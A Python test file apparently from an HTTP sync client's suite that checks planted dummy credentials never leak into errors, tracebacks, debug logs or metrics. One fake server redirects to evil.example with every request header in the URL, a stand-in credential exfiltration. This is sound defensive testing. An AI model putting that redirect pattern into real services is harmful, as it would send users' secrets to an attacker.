"""Twelve planted secrets, every way to fail, everything at DEBUG: none is seen (R14)."""

from __future__ import annotations

import asyncio
import io
import logging
import traceback
from collections.abc import Iterator
from datetime import datetime
from typing import Any

import httpx
import pytest

from syncd import log, metrics
from syncd.client import PartnerTransport, Session, Signature
from syncd.clock import SystemClock
from syncd.errors import RejectedError, SyncdError
from syncd.limits import Gate
from syncd.limits.backoff import BackoffPolicy
from syncd.model import Request
from syncd.testing.clock import FakeClock
from tests.client.parts import Facts, Keeper, Partner, auth_of, failure, ok, session_of
from tests.client.servers import answer, raw_server, saying

PLANTED = {
    "api_key": "PLANTED-api-key-000001",
    "token": "PLANTED-token-000002",
    "username": "PLANTED-username-000003",
    "password": "PLANTED-pass/word+000004",
    "client_id": "PLANTED-client-id-000005",
    "client_secret": "PLANTED-client-secret-000006",
    "refresh_token": "PLANTED-refresh-000007",
    "signing_key": "PLANTED-signing-000008",
}
ISSUED = {
    "access_token": "PLANTED-access-000009",
    "refresh_token": "PLANTED-rotated-000010",
}
KINDS = [
    Facts("api_key", header="X-Key"),
    Facts("api_key", query="key"),
    Facts("bearer"),
    Facts("basic"),
    Facts("signer", credentials={"signing_key": "signing_key"}),
    Facts("oauth2_client", token_path="/oauth/token"),
    Facts("oauth2_client", token_path="/oauth/token", client="basic"),
    Facts("oauth2_refresh", token_path="/oauth/token", client="json"),
]


def echo(request: httpx.Request) -> httpx.Response:
    """A partner that tells everybody what it was sent."""
    told = f"{request.url} {dict(request.headers)} {request.content!r}"
    return httpx.Response(
        422, json={"error": {"message": told, "code": str(request.url)}}, headers={"x-request-id": told}
    )


def explode(request: httpx.Request) -> httpx.Response:
    inner = ValueError(str(request.url) + str(dict(request.headers)) + request.content.decode())
    raise httpx.ReadError(str(inner), request=request) from inner


def defect(request: httpx.Request) -> httpx.Response:
    raise RuntimeError(str(request.url) + str(dict(request.headers)) + request.content.decode())


def elsewhere(request: httpx.Request) -> httpx.Response:
    return httpx.Response(302, headers={"location": f"https://evil.example/?all={request.url}&{dict(request.headers)}"})


def unauthorised(request: httpx.Request) -> httpx.Response:
    return httpx.Response(401, json={"message": f"bad credential {dict(request.headers)} {request.url}"})


WAYS = [echo, explode, defect, elsewhere, unauthorised]


@pytest.fixture
def written() -> Iterator[io.StringIO]:
    stream = io.StringIO()
    log.configure("debug", "json", stream)
    handler = logging.StreamHandler(stream)
    loggers = [logging.getLogger(name) for name in ("", "httpx", "httpcore", "aiohttp", "aiohttp.client", "asyncio")]
    levels = [logger.level for logger in loggers]
    for logger in loggers:
        logger.addHandler(handler)
        logger.setLevel(logging.DEBUG)
    yield stream
    for logger, level in zip(loggers, levels, strict=True):
        logger.removeHandler(handler)
        logger.setLevel(level)


def everything_about(error: BaseException | None) -> str:
    """All that any printer of errors could show: words, fields, the chain, tracebacks with the locals of every frame."""
    seen: list[str] = []
    while error is not None:
        seen += [str(error), repr(error), repr(error.args), repr(vars(error))]
        shown = traceback.TracebackException.from_exception(error, capture_locals=True)
        frames = [frame for frame in shown.stack if "/syncd/" in frame.filename]
        seen += [repr(frame.locals) for frame in frames]
        error = error.__cause__ or error.__context__
    return "\n".join(seen)


def assert_none_seen(text: str) -> None:
    for value in (*PLANTED.values(), *ISSUED.values()):
        assert value not in text
        assert value.encode().hex() not in text


def token_or(way: Any) -> Any:
    def answer_(request: httpx.Request) -> httpx.Response:
        if request.url.path == "/oauth/token":
            return httpx.Response(200, json={**ISSUED, "expires_in": 3600})
        return way(request)

    return answer_


@pytest.mark.parametrize("facts", KINDS, ids=lambda facts: f"{facts.kind}-{facts.client}-{facts.query}")
@pytest.mark.parametrize("way", WAYS)
async def test_no_failure_shows_a_secret(clock: FakeClock, written: io.StringIO, facts: Facts, way: Any) -> None:
    def sign(request: Any, secrets: Any, now: datetime) -> Signature:
        return Signature({"X-Signature": secrets["signing_key"]})

    auth, _ = auth_of(facts, clock, keeper=Keeper(), sign=sign, **PLANTED)
    session = session_of(Partner(token_or(way)), clock, auth=auth, backoff=BackoffPolicy(attempts=2))
    error = await failure(clock.run(session.call(Request("/things", "POST", json={"a": 1}, repeatable=True))))
    assert isinstance(error, SyncdError)
    assert error.__cause__ is None and error.__context__ is None
    assert_none_seen(everything_about(error))
    assert_none_seen(written.getvalue())
    assert_none_seen(metrics.exposition().decode())
    assert_none_seen(repr(session) + repr(vars(session)) + repr(vars(session.auth)) + repr(vars(session.transport)))
    await session.aclose()


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("kind", ["oauth2_client", "oauth2_refresh"])
async def test_no_failure_of_a_token_endpoint_shows_a_secret(
    clock: FakeClock, written: io.StringIO, way: Any, kind: str
) -> None:
    auth, _ = auth_of(Facts(kind, token_path="/oauth/token"), clock, keeper=Keeper(), **PLANTED)
    session = session_of(Partner(way), clock, auth=auth, backoff=BackoffPolicy(attempts=2))
    error = await failure(clock.run(session.call(Request("/things"))))
    assert isinstance(error, SyncdError)
    assert_none_seen(everything_about(error))
    assert_none_seen(written.getvalue())


async def test_a_good_call_at_debug_on_real_sockets_shows_none_either(written: io.StringIO) -> None:
    clock = SystemClock()
    asyncio.get_running_loop().set_debug(True)
    for facts in KINDS[:4]:
        auth, _ = auth_of(facts, FakeClock(), **PLANTED)
        async with raw_server(saying(answer(b"{}"))) as server:
            transport = PartnerTransport("acme", clock=clock)
            gate = Gate("acme", ["1000/s"], clock=clock)
            session = Session(transport, integration="acme/one", base_url=server.url, gate=gate, auth=auth)
            await session.call(Request("/things", params={"secret": PLANTED["token"]}))
            server.drop_all()
            await asyncio.sleep(0)
            await transport.aclose()
        assert b"PLANTED" in server.heads[0] or b"Basic" in server.heads[0]
    assert "call_answered" in written.getvalue()
    assert_none_seen(written.getvalue())


async def test_query_values_are_in_no_message(clock: FakeClock) -> None:
    for way in (explode, defect, elsewhere):
        session = session_of(Partner(way), clock, backoff=BackoffPolicy(attempts=1))
        error = await failure(session.call(Request("/things", params={"email": "ada@lovelace.example"})))
        assert "ada" not in str(error)


async def test_a_refused_header_is_not_quoted(clock: FakeClock) -> None:
    error = await failure(session_of(Partner(ok()), clock).call(Request("/t", headers={"X-Mine": "value\n42"})))
    assert isinstance(error, RejectedError)
    assert "value" not in str(error)
